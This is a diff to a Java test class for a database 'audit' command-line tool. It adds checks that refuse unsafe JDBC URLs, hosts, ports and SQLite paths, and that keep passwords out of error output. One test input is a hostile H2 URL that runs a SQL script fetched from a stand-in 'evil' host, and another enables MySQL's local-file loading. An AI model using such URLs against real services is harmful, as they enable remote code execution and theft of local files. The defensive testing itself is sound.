@@ -214,15 +214,36 @@ class AuditCommandTest {
     }
 
     @Test
-    void auditWhenSqliteFileMissingThenExit2AndNoFileCreated() {
+    void auditWhenSqliteFileMissingThenRefusedAndNoFileCreated() {
         Path missing = dir.resolve("nope.sqlite3");
 
         CliRun run = CliRun.run("", "audit", "jdbc:sqlite:" + missing);
 
-        assertThat(run.exitCode()).isEqualTo(2);
-        assertThat(run.err()).startsWith("legacy-hash audit: cannot connect to jdbc:sqlite:" + missing + ": ");
+        assertThat(run.exitCode()).isEqualTo(64);
+        assertThat(run.err()).startsWith("legacy-hash audit: JDBC_URL refused: JDBC URL: " + missing
+                + " is not an existing SQLite database file");
         assertThat(run.out()).isEmpty();
         assertThat(missing).doesNotExist();
+    }
+
+    @Test
+    void auditWhenUrlBreaksTheOperatorsRestrictionsThenRefusedBeforeConnecting() throws Exception {
+        String url = SeededSqlite.create(dir);
+        Path other = Files.createDirectories(dir.resolve("elsewhere"));
+
+        CliRun inside = CliRun.run("", "audit", url, "--sqlite-dir", dir.toString(), "--no-progress");
+        CliRun outside = CliRun.run("", "audit", url, "--sqlite-dir", other.toString());
+        CliRun host = CliRun.run("", "audit", "jdbc:postgresql://10.9.8.7:5432/app", "--allowed-hosts", "db.internal");
+        CliRun port = CliRun.run("", "audit", "jdbc:postgresql://db.internal:22/app", "--allowed-ports", "5432");
+        CliRun badFlag = CliRun.run("", "audit", url, "--allowed-ports", "ssh");
+
+        assertThat(inside.exitCode()).as(inside.toString()).isZero();
+        assertThat(outside.exitCode()).isEqualTo(64);
+        assertThat(outside.err()).contains("the SQLite file must be inside " + other.toRealPath());
+        assertThat(host.err()).contains("host '10.9.8.7' is not among the hosts the server operator allows");
+        assertThat(port.err()).contains("port 22 is not among the ports");
+        assertThat(badFlag.exitCode()).isEqualTo(64);
+        assertThat(badFlag.err()).contains("allowed port 'ssh'");
     }
 
     @Test
@@ -257,8 +278,8 @@ class AuditCommandTest {
                 "--connect-timeout", "2");
 
         assertThat(run.exitCode()).isEqualTo(2);
-        assertThat(run.err()).startsWith("legacy-hash audit: cannot connect to jdbc:postgresql://127.0.0.1:1/app?"
-                + "password=****: ").doesNotContain("s3cret-db-pw").doesNotContain("other-secret");
+        assertThat(run.err()).startsWith("legacy-hash audit: cannot connect to PostgreSQL at 127.0.0.1:1/app: ")
+                .doesNotContain("s3cret-db-pw").doesNotContain("other-secret");
     }
 
     @Test
@@ -270,8 +291,11 @@ class AuditCommandTest {
 
         Map<List<String>, String> cases = Map.ofEntries(
                 Map.entry(List.of("audit"), "Missing required parameter: 'JDBC_URL'"),
-                Map.entry(List.of("audit", "postgres://db/app"), "JDBC_URL must start with jdbc:"),
-                Map.entry(List.of("audit", "jdbc:oracle:thin:@db:1521/x"), "no JDBC driver for jdbc:oracle:thin"),
+                Map.entry(List.of("audit", "postgres://db/app"), "JDBC URL 'postgres:...' is not supported"),
+                Map.entry(List.of("audit", "jdbc:oracle:thin:@db:1521/x"), "JDBC URL 'jdbc:oracle:...' is not supported"),
+                Map.entry(List.of("audit", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"), "is not supported"),
+                Map.entry(List.of("audit", "jdbc:mysql://db/app?allowLoadLocalInfile=true"),
+                        "'allowLoadLocalInfile' is refused: it is set by Legacy Bridge to a safe value"),
                 Map.entry(List.of("audit", url, "--fail-on", "malformed,typo"), "--fail-on: unknown condition 'typo'"),
                 Map.entry(List.of("audit", url, "--preset", "rails"), "Schema preset must be one of django, generic"),
                 Map.entry(List.of("audit", url, "--preset", "generic"), "Users table is required with the generic preset"),
